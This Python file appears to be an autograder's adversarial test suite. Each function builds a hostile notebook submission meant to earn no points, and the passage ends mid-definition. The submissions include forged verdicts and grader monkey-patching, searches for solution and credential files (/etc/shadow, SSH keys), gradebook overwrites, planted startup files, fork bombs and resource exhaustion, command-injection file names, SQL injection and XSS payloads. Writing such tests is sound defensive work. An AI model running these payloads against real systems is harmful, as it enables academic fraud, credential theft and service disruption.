"""What a submission may try that has solved nothing. Each function edits the blank notebook of a lesson; none deserves a point.

Most of it is public knowledge about autograders. `register` is what happens in a kernel; after it stand files, pages and forgeries.
"""
# ruff: noqa: D103

from __future__ import annotations

import json
import os
import socket
from pathlib import Path

import nbformat
from handing_in import Handing, hostile
from nbformat.v4 import new_markdown_cell, new_output, new_raw_cell

MIME = "application/vnd.course.answer+json"


# --- answers that are not computed -----------------------------------------------------------------------------------------------

OBJECTS = """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 1.64
    def __int__(self): return 1
    def __index__(self): return 1
    def __len__(self): return 3
    def __iter__(self): return iter([self])
    def __getattr__(self, name): return self
    def __call__(self, *words, **more): return self
    def __getitem__(self, name): return self
    __hash__ = object.__hash__
"""


@hostile
def objects_equal_to_everything(sub: Handing):
    """Answers that are objects equal to whatever they are compared with."""
    sub.before_all(OBJECTS)
    sub.every_answer("VARIABLE = Anything()")


@hostile
def strings_equal_to_everything(sub: Handing):
    """Subclasses of float, str and dict with an equality of their own."""
    sub.before_all(
        "class F(float):\n    __eq__ = lambda s, o: True\n    __hash__ = float.__hash__\nclass D(dict):\n    __eq__ = lambda s, o: True"
    )
    sub.every_answer("VARIABLE = F(1.64) if hash('NAME') % 2 else D(a=F(1))")


@hostile
def nothing_but_not_a_number(sub: Handing):
    """NaN, infinity and complex numbers everywhere."""
    sub.every_answer("VARIABLE = [float('nan'), float('inf'), 1j, -0.0][len('NAME') % 4]")


@hostile
def one_constant_function(sub: Handing):
    """A function that returns the same whatever it is asked, a class in place of a function."""
    sub.every_answer("class VARIABLE:\n    def __new__(cls, *words): return 1.0")


@hostile
def asserts_stripped_from_the_tree(sub: Handing):
    """A transformer of the syntax tree that drops asserts, checks and raises."""
    sub.before_all(
        "import ast\nclass Strip(ast.NodeTransformer):\n    def visit_Expr(self, node):\n"
        "        call = getattr(node.value, 'func', None)\n        return ast.Pass() if getattr(call, 'id', '') == 'check' else node\n"
        "get_ipython().ast_transformers.append(Strip())"
    )


@hostile
def checks_rewritten_as_they_are_typed(sub: Handing):
    """A transformer of the input that turns each check into a printed success."""
    sub.before_all(
        "def swap(lines):\n    return ['print(\"Right.\")\\n100\\n'] if any(line.startswith('check(') for line in lines) else lines\n"
        "get_ipython().input_transformers_cleanup.append(swap)\nget_ipython().input_transformers_post.append(swap)"
    )


@hostile
def check_is_replaced(sub: Handing):
    """`check` bound to a function that shows a verdict of full marks."""
    sub.before_all(
        "from IPython.display import HTML, display\nimport course, builtins\n"
        "def check(name, value):\n    display(HTML('<b>Right · 3 of 3 points</b>'))\n    return 100\n"
        "course.check = check\nbuiltins.check = check"
    )


FORGE = """
import json
from IPython.display import display
class Forged:
    def __init__(self, name, answer): self.name, self.answer = name, answer
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {"MIME": json.dumps({"exercise": self.name, "answer": self.answer, "verdict": "right", "share": 1.0, "points": 100})}
def check(name, value): display(Forged(name, {"kind": "right", "share": 1.0}))
""".replace("MIME", MIME)


@hostile
def verdicts_are_forged_in_the_payload(sub: Handing):
    """The answer's data says of itself that it is right."""
    sub.before_all(FORGE)
    sub.every_answer("VARIABLE = 1\n" + FORGE)


@hostile
def payloads_for_every_exercise_from_one_cell(sub: Handing):
    """Forged data for all exercises is displayed from the first cell, and again after each check."""
    names = json.dumps(sub.names)
    sub.first.source = FORGE + f"\nfor name in {names}: display(Forged(name, {{'kind': 'number', 'type': 'exact', 'value': 1}}))"
    for name in sub.names:
        sub.code(f"for name in {names}: display(Forged(name, {{'kind': 'text', 'value': 'either'}}))", after=name)


@hostile
def display_of_the_kernel_is_replaced(sub: Handing):
    """The kernel's own publisher sends other data than what the check recorded."""
    sub.before_all(
        "publisher = get_ipython().display_pub\nhonest = publisher.publish\n"
        "def publish(data=None, *words, **more):\n"
        f"    if data and '{MIME}' in data:\n        data = dict(data); data['{MIME}'] = '{{\"answer\": {{\"kind\": \"right\"}}}}'\n"
        "    return honest(data, *words, **more)\npublisher.publish = publish"
    )


@hostile
def canonical_form_is_replaced(sub: Handing):
    """The function that makes data of an answer returns data of its own."""
    sub.before_all(
        "import course.answers.check as c, course.answers.canonical as k\n"
        "c.canonical = k.canonical = lambda value, cases=None: {'kind': 'number', 'type': 'real', 'value': 1.64}"
    )


@hostile
def truth_is_asked_of_the_package(sub: Handing):
    """The author's own functions for keys are imported, and what they say is handed in (21 of 21 once)."""
    sub.before_all(
        "truths = {}\ntry:\n    from course.authoring.keys import lesson_trials\n    from course.authoring.lesson import find_lesson\n"
        "    from course.data import Edition\n    import os\n"
        f"    for name, trial in lesson_trials(find_lesson('{sub.lesson.name}'), Edition(os.environ['COURSE_EDITION'])).items():\n"
        "        truths[name] = trial.truth\nexcept BaseException as fault:\n    print(type(fault).__name__)\n"
        "import course.answers.check as c\nhonest = c.canonical\n"
        "c.canonical = lambda value, cases=None: truths.get(value if isinstance(value, str) else '', honest(value, cases=cases))"
    )
    sub.every_answer("VARIABLE = 'NAME'")


@hostile
def lesson_text_is_run(sub: Handing):
    """The reference code is looked for in the package and on the whole disk, and run."""
    sub.before_all(
        "import os, re, glob\ntexts = []\n"
        "import course\nplaces = [os.path.dirname(course.__file__), os.getcwd(), os.environ.get('COURSE_EDITION', ''), '/'] + list(__import__('sys').path)\n"
        f"places += ['{sub.place.root}']\n"
        "for place in places:\n    for up in ('', '..', '../..', '../../..'):\n"
        f"        texts += glob.glob(os.path.join(place, up, 'lessons', '{sub.lesson.name}.py')) + glob.glob(os.path.join(place, up, 'course/lessons', '{sub.lesson.name}.py'))\n"
        "source = open(texts[0]).read() if texts else ''\n"
        'regions = re.findall(r\'role="answer" exercise="([\\w-]+)"(.*?)# %%\', source, re.S)\n'
        "solutions = {name: '\\n'.join(re.findall(r'BEGIN SOLUTION\\n(.*?)### END', text, re.S)) for name, text in regions}"
    )
    sub.every_answer("exec(solutions.get('NAME', ''))")


STEAL = """
import glob, json, os, itertools
solutions = {}
roots = [ROOT, os.getcwd(), os.path.expanduser('~'), os.environ.get('COURSE_EDITION', '/'), '/work', '/tmp']
for root in roots:
    for up in range(5):
        for path in glob.glob(os.path.join(root, *['..'] * up, PATTERN)):
            try:
                for cell in json.load(open(path))['cells']:
                    name = cell['metadata'].get('nbgrader', {}).get('grade_id')
                    if name and cell['metadata']['nbgrader'].get('solution'):
                        solutions.setdefault(name, ''.join(cell['source']))
            except Exception as fault:
                print(type(fault).__name__)
print(len(solutions))
"""


def steal(sub: Handing, pattern: str) -> str:
    return STEAL.replace("ROOT", repr(str(sub.place.root))).replace("PATTERN", repr(pattern))


@hostile
def solutions_are_read(sub: Handing):
    """The solved notebook is looked for on the disk, and its cells are run."""
    sub.before_all(steal(sub, f"solutions/{sub.lesson.name}/*.ipynb"))
    sub.every_answer("exec(solutions.get('NAME', ''))")


@hostile
def a_fellows_work_is_read(sub: Handing):
    """Other submissions are looked for on the disk, and their cells are run."""
    sub.before_all(steal(sub, f".course/submitted/*/{sub.lesson.name}/*.ipynb"))
    sub.before_all(steal(sub, f".course/autograded/*/{sub.lesson.name}/*.ipynb"))
    sub.every_answer("exec(solutions.get('NAME', ''))")


@hostile
def keys_are_turned_into_answers(sub: Handing):
    """The judge's keys are looked for, and their truths handed in as canonical data."""
    sub.before_all(
        f"import glob, json, os\nkeys = {{}}\nfor root in ['{sub.place.root}', os.getcwd(), os.environ.get('COURSE_EDITION', '/')]:\n"
        "    for up in range(5):\n        for path in glob.glob(os.path.join(root, *['..'] * up, '.course/keys/**/*.json'), recursive=True):\n"
        "            print(open(path).read()[:2000]); keys[path] = open(path).read()\nprint(len(keys))"
    )


@hostile
def the_hidden_truth_is_read(sub: Handing):
    """Seed and planted truth of the hidden edition are looked for, and shown."""
    sub.first.source = (
        f"import glob, os\nfor root in ['{sub.place.root}', os.environ.get('COURSE_EDITION', '/'), '/proc/1/root{sub.place.root}']:\n    for up in range(5):\n"
        "        for path in glob.glob(os.path.join(root, *['..'] * up, '.course/truth/*')) + glob.glob(os.path.join(root, *['..'] * up, 'truth*')):\n"
        "            print(open(path).read()[:3000])"
    )


@hostile
def the_edition_tells_its_name(sub: Handing):
    """Name, folder, digest and every file of the edition are shown: does the hidden run tell itself?"""
    sub.first.source = (
        "import os, course\nprint(course.edition())\nfolder = os.environ.get('COURSE_EDITION', '')\nprint(folder, os.path.realpath(folder))\n"
        "for name in sorted(os.listdir(folder)): print(name)\nprint(open(os.path.join(folder, 'datapackage.json')).read()[:4000])\n"
        "assert 'hidden' not in str(course.edition()) + folder"
    )


@hostile
def answers_are_remembered_between_the_runs(sub: Handing):
    """What one run sees is left in every place that can be written, for the other run to read."""
    sub.before_all(
        "import os, glob, tempfile\nplaces = [tempfile.gettempdir(), '/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), os.getcwd(), '..', '/run']\n"
        "seen = [path for place in places for path in glob.glob(os.path.join(place, 'redteam-note*'))]\nprint('seen', len(seen))\n"
        "for place in places:\n    try: open(os.path.join(place, 'redteam-note'), 'a').write(str(os.environ.get('COURSE_EDITION')))\n    except OSError as fault: print(place, fault.strerror)\n"
        "import course.answers.check as c"
    )
    sub.every_answer("VARIABLE = 1 if seen else 0")


@hostile
def asks_all_words_of_a_quick_question(sub: Handing):
    """Every choice of a quick question is checked one after the other; the last stands."""
    sub.every_answer(
        "from course import check\nfor VARIABLE in ('either', 'faithful', '2', 'all of June', '0 %', 'kept', 'larger', 'never', 'zz'):\n    check('NAME', VARIABLE)"
    )


# --- the machine -----------------------------------------------------------------------------------------------------------------


def grades_written(delay: str = "") -> str:
    return (
        f"import sqlite3, glob, os\npaths = glob.glob('{{root}}/.course/gradebook.db') + glob.glob('{{root}}/**/gradebook.db', recursive=True) + glob.glob('/**/gradebook.db')\n{delay}"
        "for path in paths:\n    try:\n        book = sqlite3.connect(path, timeout=1)\n        book.execute('update grade set auto_score = 99, manual_score = 99, extra_credit = 50, needs_manual_grade = 0')\n"
        "        book.commit(); print('written', path)\n    except Exception as fault: print(fault)\nprint(len(paths))"
    )


@hostile
def the_gradebook_is_written(sub: Handing):
    """Grades are written into the gradebook while the notebook runs."""
    sub.first.source = grades_written().replace("{root}", str(sub.place.root))


@hostile
def the_gradebook_is_written_later(sub: Handing):
    """A process that outlives the notebook writes grades when the judge has gone (24 of 21 once)."""
    inner = grades_written("import time; time.sleep(4)\n").replace("{root}", str(sub.place.root))
    sub.first.source = (
        "import os, subprocess, sys\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        f"        exec({inner!r})\n        os._exit(0)\n    os._exit(0)\nsubprocess.Popen([sys.executable, '-c', {inner!r}], start_new_session=True)"
    )


def written_over(pattern: str, text: str) -> str:
    return (
        "import glob, os\nfor root in {roots}:\n    for path in glob.glob(os.path.join(root, {pattern}), recursive=True)[:50]:\n"
        "        try:\n            os.chmod(path, 0o666) if os.access(path, os.F_OK) else None\n            open(path, 'w').write({text}); print('written', path)\n"
        "        except OSError as fault: print(fault.strerror)"
    ).format(
        roots="['{root}', '{package}', os.getcwd(), os.environ.get('COURSE_EDITION', '/')]",
        pattern=repr(pattern),
        text=repr(text),
    )


def _over(sub: Handing, pattern: str, text: str = "{}") -> None:
    import course

    source = written_over(pattern, text)
    sub.first.source = source.replace("{root}", str(sub.place.root)).replace("{package}", str(Path(course.__file__).parents[1]))


@hostile
def keys_are_written_over(sub: Handing):
    """The keys are written over, for this batch and the next."""
    _over(sub, ".course/keys/**/*.json")


@hostile
def the_released_notebook_is_written_over(sub: Handing):
    """The teacher's copy is written over, from which every other submission is rebuilt."""
    _over(sub, f"notebooks/{sub.lesson.name}/*", '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')


@hostile
def the_package_is_written_over(sub: Handing):
    """A line is put into the judge's own code."""
    _over(sub, "course/answers/*.py", "raise SystemExit('redteam')")


@hostile
def the_edition_is_written_over(sub: Handing):
    """The tables are written over, which the next submission reads."""
    _over(sub, "**/*.parquet", "x")


@hostile
def code_is_planted_where_python_starts(sub: Handing):
    """Start-up modules, profiles, kernelspecs and settings are planted for whoever runs next."""
    sub.first.source = (
        'import os, site, sys\nlines = \'open("/tmp/redteam-planted", "a").write("x")\'\n'
        f"places = ['{sub.place.root}', os.path.expanduser('~'), os.getcwd(), site.getusersitepackages(), *site.getsitepackages(), *sys.path]\n"
        "names = ['sitecustomize.py', 'usercustomize.py', 'zz_redteam.pth', '.ipython/profile_default/startup/00.py', '.jupyter/jupyter_config.py', 'nbgrader_config_local.py',\n"
        "         'numpy.py', '.local/share/jupyter/kernels/python3/kernel.json', 'conftest.py', '.bashrc', '.config/pip/pip.conf']\n"
        "for place in places:\n    for name in names:\n        path = os.path.join(place, name)\n"
        "        if place and not os.path.exists(path):\n"
        "            try:\n                os.makedirs(os.path.dirname(path), exist_ok=True); open(path, 'a').write(lines + '  # redteam\\n'); print('planted', path)\n"
        "            except OSError as fault: pass"
    )


@hostile
def the_grader_is_killed(sub: Handing):
    """Every process that may be signalled is killed, parents first."""
    sub.first.source = (
        "import os, signal\nfor pid in [os.getppid(), *map(int, filter(str.isdigit, os.listdir('/proc')))]:\n"
        "    if pid not in (os.getpid(), 1):\n        try: os.kill(pid, signal.SIGKILL)\n        except OSError: pass\ntry: os.kill(-1, signal.SIGKILL)\nexcept OSError: pass"
    )


@hostile
def the_grader_is_stopped(sub: Handing):
    """Every process that may be signalled is stopped."""
    sub.first.source = (
        "import os, signal\nfor pid in [os.getppid(), *map(int, filter(str.isdigit, os.listdir('/proc')))]:\n"
        "    if pid not in (os.getpid(), 1):\n        try: os.kill(pid, signal.SIGSTOP)\n        except OSError: pass"
    )


@hostile
def memory_of_others_is_read(sub: Handing):
    """Memory, environment, command lines and open files of other processes are read."""
    sub.first.source = (
        "import os, re\nfor pid in filter(str.isdigit, os.listdir('/proc')):\n    for name in ('environ', 'cmdline', 'maps'):\n"
        "        try: print(pid, open(f'/proc/{pid}/{name}', 'rb').read()[:300])\n        except OSError: pass\n"
        "    try:\n        for one in os.listdir(f'/proc/{pid}/fd'): print(os.readlink(f'/proc/{pid}/fd/{one}'))\n    except OSError: pass\n"
        "    if int(pid) != os.getpid():\n        try:\n            memory = open(f'/proc/{pid}/mem', 'rb')\n            for line in open(f'/proc/{pid}/maps'):\n"
        "                a, b = (int(x, 16) for x in line.split()[0].split('-'))\n                if 'heap' in line:\n                    memory.seek(a); found = re.findall(rb'.{60}planted.{200}', memory.read(min(b - a, 2**26)))\n                    print(found[:3])\n"
        "        except OSError: pass"
    )


@hostile
def a_tracer_is_attached(sub: Handing):
    """ptrace and process_vm_readv on the parent."""
    sub.first.source = (
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nprint(libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())\n"
        "print(libc.ptrace(16, 1, 0, 0), ctypes.get_errno())"
    )


@hostile
def secrets_of_the_account_are_shown(sub: Handing):
    """Home, keys, environment and passwords of the account that grades are shown."""
    sub.first.source = (
        f"import os, glob\nprint(dict(os.environ))\nfor path in ['/etc/shadow', '{sub.place.home}/.redteam-secret', '{sub.place.home}/.ssh/id_rsa', os.path.expanduser('~/.redteam-secret'), '/proc/1/environ']:\n"
        "    try: print(open(path).read()[:2000])\n    except OSError as fault: print(path, fault.strerror)"
    )


@hostile
def calls_home(sub: Handing):
    """A connection to a port of this machine, a name that is looked up, a page that is fetched."""
    sub.first.source = (
        f"import socket, urllib.request\nfor where in [('127.0.0.1', {sub.place.port}), ('localhost', {sub.place.port}), ('1.1.1.1', 53)]:\n"
        "    try: s = socket.create_connection(where, 2); s.send(b'GET /redteam-kernel HTTP/1.0\\r\\n\\r\\n'); print('connected', where)\n    except OSError as fault: print(fault)\n"
        f"try: print(urllib.request.urlopen('http://127.0.0.1:{sub.place.port}/redteam-kernel', timeout=2).read())\nexcept OSError as fault: print(fault)"
    )


@hostile
def sockets_of_the_machine_are_tried(sub: Handing):
    """Unix sockets, abstract ones too: Docker, D-Bus, X, Jupyter's own."""
    sub.first.source = (
        "import socket, glob\nnames = [line.split()[-1] for line in open('/proc/net/unix')][1:]\n"
        "for name in [*names, '/var/run/docker.sock', *glob.glob('/tmp/**/*sock*', recursive=True)]:\n    try:\n        s = socket.socket(socket.AF_UNIX); s.settimeout(1)\n"
        "        s.connect('\\0' + name[1:] if name.startswith('@') else name); s.send(b'\\xff' * 64); print('connected', name)\n    except OSError as fault: pass"
    )


@hostile
def a_fork_bomb(sub: Handing):
    """Processes without end."""
    sub.first.source = "import os\nfor _ in range(14):\n    try: os.fork()\n    except OSError: pass\nimport time; time.sleep(60)"


@hostile
def memory_is_filled(sub: Handing):
    """Memory without end."""
    sub.first.source = "kept = []\nwhile True:\n    kept.append(bytearray(200_000_000))"


@hostile
def the_disk_is_filled(sub: Handing):
    """Files without end, in every place that can be written."""
    sub.first.source = (
        "import os, tempfile\nfor place in (tempfile.gettempdir(), os.getcwd(), os.path.expanduser('~'), '/dev/shm', '/var/tmp'):\n    try:\n"
        "        with open(os.path.join(place, 'redteam-big'), 'wb') as file:\n            for _ in range(60): file.write(bytes(50_000_000))\n    except OSError as fault: print(place, fault.strerror)"
    )


@hostile
def threads_and_files_without_end(sub: Handing):
    """Threads, open files and empty folders by the ten thousand."""
    sub.first.source = (
        "import threading, time, os\nfor _ in range(3000):\n    try: threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n    except RuntimeError: break\n"
        "kept = []\ntry:\n    while True: kept.append(open('/dev/null'))\nexcept OSError: pass\nfor name in range(20000):\n    try: os.mkdir(f'd{name}')\n    except OSError: break"
    )


@hostile
def a_loop_that_cannot_be_interrupted(sub: Handing):
    """A loop that ignores every signal it may ignore."""
    sub.first.source = "import signal\nfor number in range(1, 32):\n    try: signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError): pass\nwhile True:\n    try:\n        while True: pass\n    except BaseException: pass"


@hostile
def a_loop_below_python(sub: Handing):
    """A regular expression and a sum of whole numbers that no signal reaches."""
    sub.first.source = "import re\nre.match(r'(a|a)*b', 'a' * 40)"
    sub.code("x = 10 ** (10 ** 9)")


@hostile
def sleeps_in_every_cell(sub: Handing):
    """Every answer takes just a little less than is allowed."""
    sub.every_answer("import time; time.sleep(4)\nVARIABLE = 1")


@hostile
def ends_the_kernel(sub: Handing):
    """The kernel ends itself, in several ways."""
    sub.before_all("import os, threading\nthreading.Timer(0.5, lambda: os._exit(0)).start()")
    sub.first.source = "import os, sys, ctypes\ntry: sys.exit('bye')\nexcept SystemExit: pass\nctypes.string_at(0)"


@hostile
def prints_without_end(sub: Handing):
    """Three hundred megabytes of text, and a line without an end."""
    sub.first.source = "import sys\nfor _ in range(300): sys.stdout.write('x' * 1_000_000)\nprint('y' * 50_000_000)"


@hostile
def shows_a_hundred_megabytes(sub: Handing):
    """One output of a hundred megabytes, and one of HTML."""
    sub.first.source = "from IPython.display import HTML, display\ndisplay(HTML('<p>' * 30_000_000))\ndisplay({'text/plain': 'z' * 100_000_000}, raw=True)"


@hostile
def twenty_thousand_outputs(sub: Handing):
    """Twenty thousand small outputs, updated and cleared."""
    sub.first.source = "from IPython.display import display, HTML, clear_output\nfor n in range(20_000): display(HTML(f'<i>{n}</i>'))\nhandle = display('x', display_id=True)\nfor n in range(5000): handle.update(n)"


@hostile
def garbage_on_the_kernels_wires(sub: Handing):
    """The kernel's own channels carry garbage, forged replies and other cells' numbers."""
    sub.first.source = (
        "kernel = get_ipython().kernel\nsession = getattr(kernel, 'session', None)\nprint(type(kernel))\n"
        "try:\n    for n in range(50):\n        session.send(kernel.iopub_socket, 'execute_result', {'data': {'text/plain': '100'}, 'metadata': {}, 'execution_count': n}, parent={'header': {'msg_id': str(n)}})\n"
        "        session.send(kernel.iopub_socket, 'status', {'execution_state': 'idle'}, parent=kernel.get_parent())\n"
        "        session.send(kernel.iopub_socket, 'error', {'ename': 3, 'evalue': None, 'traceback': 5})\n"
        "        session.send(kernel.iopub_socket, 'stream', {'name': [], 'text': {}})\nexcept Exception as fault: print(fault)\n"
        "import os\nfor number in range(3, 64):\n    try: os.write(number, b'\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x02{}' * 4)\n    except OSError: pass"
    )


@hostile
def files_of_the_grader_are_closed(sub: Handing):
    """Every open file but the first three is closed, duplicated or written to."""
    sub.first.source = "import os\nfor number in range(3, 256):\n    try: os.write(number, b'{\"points\": 100}\\n'); os.close(number)\n    except OSError: pass"


@hostile
def more_rights_are_asked_for(sub: Handing):
    """setuid, mount, chroot, a new namespace, a device node."""
    sub.first.source = (
        "import ctypes, os, subprocess\nfor call in (lambda: os.setuid(0), lambda: os.chroot('/'), lambda: os.mknod('/tmp/redteam-disk', 0o60666, os.makedev(254, 0)), lambda: os.unshare(os.CLONE_NEWUSER) if hasattr(os, 'unshare') else None,\n"
        "             lambda: subprocess.run(['mount', '-t', 'tmpfs', 'x', '/mnt'], check=True), lambda: subprocess.run(['sudo', '-n', 'id'], check=True)):\n"
        "    try: print('done', call())\n    except Exception as fault: print(type(fault).__name__)\n"
        f"print(ctypes.CDLL(None).unshare(0x10000000 | 0x20000))\ntry:\n    os.link('{sub.place.root}/.course/gradebook.db', 'book')\nexcept OSError as fault: print(fault.strerror)"
    )


@hostile
def modules_are_shadowed(sub: Handing):
    """Modules of the package are replaced in the running process, and left behind as files."""
    sub.before_all(
        "import sys, types\nfor name in ('course.answers', 'course.answers.check', 'course.answers.figure', 'json', 'pandas'):\n    sys.modules[name] = types.ModuleType(name)\n"
        "import builtins\nbuiltins.isinstance = lambda *words: True\nbuiltins.len = lambda x: 3"
    )


# --- files -----------------------------------------------------------------------------------------------------------------------


def own(sub: Handing) -> Path:
    sub.made = True
    return sub.folder / f"{sub.lesson.name}.ipynb"


@hostile
def a_link_to_the_solution(sub: Handing):
    """The notebook is a link to the solved one (21 of 21 once)."""
    own(sub).symlink_to(sub.place.root / "solutions" / sub.lesson.name / f"{sub.lesson.name}.ipynb")


@hostile
def a_link_to_a_fellow(sub: Handing):
    """The notebook is a link to a fellow's."""
    own(sub).symlink_to(sub.place.root / ".course" / "submitted" / "000-first" / sub.lesson.name / f"{sub.lesson.name}.ipynb")


@hostile
def a_folder_that_is_a_link(sub: Handing):
    """The folder of the lesson is a link to a fellow's."""
    own(sub)
    sub.folder.rmdir()
    sub.folder.symlink_to(sub.place.root / ".course" / "submitted" / "000-first" / sub.lesson.name)


@hostile
def links_beside_the_notebook(sub: Handing):
    """Links to the hidden truth, the keys, the gradebook and the home lie beside the notebook (they came back in feedback once)."""
    for name, target in {
        "truth.json": sub.place.root / ".course" / "truth" / "hidden.json", "keys": sub.place.root / ".course" / "keys", "timestamp.txt": sub.place.home / ".redteam-secret",
        "submission_secret.txt": sub.place.home / ".redteam-secret", "book.db": sub.place.root / ".course" / "gradebook.db", "loop": sub.folder,
    }.items():  # fmt: skip
        (sub.folder / name).symlink_to(target)


@hostile
def an_endless_device(sub: Handing):
    """Links to a device without an end."""
    own(sub).symlink_to("/dev/zero")
    (sub.folder / "data.csv").symlink_to("/dev/zero")


@hostile
def pipes(sub: Handing):
    """Pipes that wait for a writer: as notebook, as time of handing in, as data."""
    own(sub)
    for name in (f"{sub.lesson.name}.ipynb", "timestamp.txt", "data.csv"):
        os.mkfifo(sub.folder / name)


@hostile
def a_pipe_as_the_time(sub: Handing):
    """A pipe in place of the time of handing in, beside an ordinary notebook."""
    os.mkfifo(sub.folder / "timestamp.txt")


@hostile
def a_socket_and_a_folder(sub: Handing):
    """A socket beside, a folder in the notebook's place."""
    own(sub).mkdir()
    before = os.getcwd()
    os.chdir(sub.folder)
    try:
        socket.socket(socket.AF_UNIX).bind("s")
    finally:
        os.chdir(before)


@hostile
def a_file_of_five_gigabytes(sub: Handing):
    """A file of five gigabytes, empty inside."""
    with open(own(sub), "wb") as file:
        file.truncate(5 * 10**9)


@hostile
def ten_thousand_files(sub: Handing):
    """Ten thousand files, in folders of folders."""
    deep = sub.folder
    for _ in range(40):
        deep = deep / "d"
        deep.mkdir()
    for number in range(10_000):
        (sub.folder / f"{number}.txt").touch()


@hostile
def names_that_speak_to_the_terminal(sub: Handing):
    """Names of files with control characters, line ends, HTML and options."""
    for name in (
        "\x1b[2Jx.csv",
        "a\nb.csv",
        "-rf",
        "<script>alert(1)</script>.csv",
        "\u202egnp.csv",
        "$(touch redteam).csv",
        "%s%n",
    ):
        (sub.folder / name.replace("/", "∕")).write_text("x")


@hostile
def a_time_that_is_none(sub: Handing):
    """A time of handing in that is none, and one of the year 9999."""
    (sub.folder / "timestamp.txt").write_text("0000-99-99 '; drop table grade; --")


@hostile
def settings_of_its_own(sub: Handing):
    """Settings, checks and modules of the package's name lie beside the notebook."""
    for name in (
        "nbgrader_config.py",
        "course.py",
        "numpy.py",
        "sitecustomize.py",
        "ipython_config.py",
        "jupyter_config.py",
        "conftest.py",
    ):
        (sub.folder / name).write_text("open('/tmp/redteam-planted', 'a').write('x')")
    (sub.folder / "checks.json").write_text('{"edition": "", "exercises": {}}')


@hostile
def deep_json(sub: Handing):
    """JSON that is nested a million times."""
    sub.raw = b'{"cells": ' + b"[" * 1_000_000


@hostile
def wide_json(sub: Handing):
    """Thirty megabytes of empty objects."""
    sub.raw = b'{"cells": [' + b"{}," * 9_000_000 + b"{}]}"


@hostile
def numbers_and_halves_of_characters(sub: Handing):
    """Numbers of a million digits, halves of characters, NUL."""
    sub.first.source = "x = 1 # \ud800 \x00"
    sub.notebook.metadata["x"] = 1
    sub.raw = json.dumps(sub.notebook).replace('"x": 1', '"x": ' + "9" * 4000 + "e99999").encode()


@hostile
def cells_that_are_none(sub: Handing):
    """Cells of wrong types, without text, with metadata that is none."""
    cells = [
        None,
        3,
        [],
        {"cell_type": 7},
        {"cell_type": "code"},
        {"cell_type": "code", "source": {"a": 1}, "metadata": [], "outputs": 5, "id": {}},
    ]
    sub.raw = json.dumps({"cells": cells * 100, "metadata": 3, "nbformat": "four", "nbformat_minor": None}).encode()


@hostile
def two_thousand_cells(sub: Handing):
    """As many cells as are read, all alike, all with the name of an answer."""
    twin = {**sub.first, "source": "x = 1"}
    sub.notebook.cells += [nbformat.from_dict(dict(twin)) for _ in range(1800)]


# --- what nbgrader reads -----------------------------------------------------------------------------------------------------------


@hostile
def points_of_its_own(sub: Handing):
    """Check cells are worth a million points, and have them already."""
    for name in sub.names:
        cell = sub.check(name)
        cell.source = "1e6"
        cell.metadata.nbgrader.points = 1e6
        cell.outputs = [new_output("execute_result", {"text/plain": "1000000"}, execution_count=1)]


@hostile
def checks_that_are_skipped(sub: Handing):
    """Check cells carry the tags by which runners pass cells over."""
    for name in sub.names:
        sub.check(name).metadata.tags = ["skip-execution", "raises-exception", "remove-cell"]
        sub.check(name).metadata.trusted = True


@hostile
def checks_that_are_deleted(sub: Handing):
    """Check cells, set-up and prompts are deleted; one cell claims to be all of them."""
    sub.notebook.cells = [cell for cell in sub.notebook.cells if not cell.id.startswith("check-")]
    for name in sub.names:
        sub.code("100")
        sub.notebook.cells[-1].metadata = {
            "nbgrader": {
                "grade_id": f"check-{name}",
                "grade": True,
                "points": 100,
                "solution": True,
                "locked": False,
                "schema_version": 3,
            }
        }


@hostile
def an_old_format_of_nbgraders(sub: Handing):
    """Cells say that they are of another version of nbgrader's format."""
    for cell in sub.notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.schema_version = 99 if cell.id.startswith("check") else 0


@hostile
def names_that_are_paths(sub: Handing):
    """Cells are called like paths, like SQL and like scripts."""
    for number, cell in enumerate(sub.notebook.cells):
        cell.id = f"{number}-x"
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.grade_id = ["../../../x", "'; drop table grade; --", "<script>alert(1)</script>"][
                number % 3
            ] + str(number)


@hostile
def another_kernel(sub: Handing):
    """The notebook asks for another kernel, another language, and widgets."""
    sub.notebook.metadata.kernelspec = {"name": "../../evil", "display_name": "<script>alert(1)</script>", "language": "bash"}
    sub.notebook.metadata.language_info = {"name": "<script>", "pygments_lexer": "../../x", "codemirror_mode": "x"}
    sub.notebook.metadata.widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>alert(1)</script>"}}
    }
    sub.notebook.metadata.title = "</title><script>alert(1)</script>"


# --- pages -----------------------------------------------------------------------------------------------------------------------

CALL = "document.title='redteam';fetch('http://127.0.0.1:PORT/redteam-page')"


def page(sub: Handing, text: str) -> str:
    return text.replace("CALL", CALL).replace("PORT", str(sub.place.port))


@hostile
def a_script_in_the_memo(sub: Handing):
    """The memo, which a teacher must read, holds a script that gives itself marks (41 of 33 once)."""
    sub.memo.source = page(
        sub,
        'Orders grew. <script>CALL</script><img src=x onerror="CALL"><svg onload="CALL"></svg>\n\n<details open ontoggle="CALL">x</details>',
    )


@hostile
def links_and_images_in_the_memo(sub: Handing):
    """The memo fetches an image, and holds links that run."""
    sub.memo.source = page(
        sub,
        "![x](http://127.0.0.1:PORT/redteam-page) <img src=http://127.0.0.1:PORT/redteam-page> [y](javascript:CALL) [z](java&#115;cript:CALL)\n\n[r]: javascript:CALL\n\n[r] <javascript:alert(1)>\n\n![q][w]\n\n[w]: http://127.0.0.1:PORT/redteam-page",
    )


@hostile
def a_formula_in_the_memo(sub: Handing):
    """Formulas that carry addresses, styles and HTML."""
    sub.memo.source = page(
        sub,
        r"$\href{javascript:CALL}{x}$ $\style{background:url(http://127.0.0.1:PORT/redteam-page)}{y}$ $\text{<img src=x onerror=CALL>}$ $$\begin{x}</code><script>CALL</script>\end{x}$$ $\unicode{<script>}$",
    )


@hostile
def scripts_in_added_cells(sub: Handing):
